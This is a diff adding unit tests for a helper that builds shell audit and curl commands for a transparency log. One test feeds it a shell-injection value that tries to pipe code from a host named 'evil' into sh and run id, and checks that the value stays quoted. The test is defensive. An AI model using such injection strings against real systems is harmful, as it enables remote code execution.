@@ -4,6 +4,7 @@ import { utf8 } from '../../../src/protocol/bytes';
 import { growthOf, spread, stairs, thinned } from '../../../src/state/log/growth';
 import { filterEntries, showEntry, typesIn } from '../../../src/state/log/shownEntries';
 import type { Report } from '../../../src/state/log/report';
+import { commandsFor } from '../../../src/ui/transparency/commands';
 import { ago, checksOf, words } from '../../../src/ui/transparency/words';
 
 describe('growth', () => {
@@ -52,6 +53,20 @@ describe('entries', async () => {
     expect(typesIn(shown)).toEqual(['future.kind', 'irregular', 'release', 'statement']);
     expect(found('', 'irregular')).toEqual([3]);
     expect(found('1.2.3', 'statement')).toEqual([]);
+  });
+});
+
+describe('commands', () => {
+  it('take a good name as it is', () => {
+    expect(commandsFor('https://meet.example', 'meet.example/log+0a1b2c3d+AbC/d=')).toEqual({
+      audit: 'vigil audit https://meet.example/log --vkey meet.example/log+0a1b2c3d+AbC/d=', curl: 'curl https://meet.example/log/checkpoint',
+    });
+    expect(commandsFor('https://meet.example', null).audit).toBe('vigil audit https://meet.example/log');
+  });
+
+  it('keep a hostile name one word', () => {
+    expect(commandsFor('https://meet.example', "x;curl${IFS}evil|sh;'$(id)`+0a1b2c3d+A").audit)
+      .toBe("vigil audit https://meet.example/log --vkey 'x;curl${IFS}evil|sh;'\\''$(id)`+0a1b2c3d+A'");
   });
 });
 
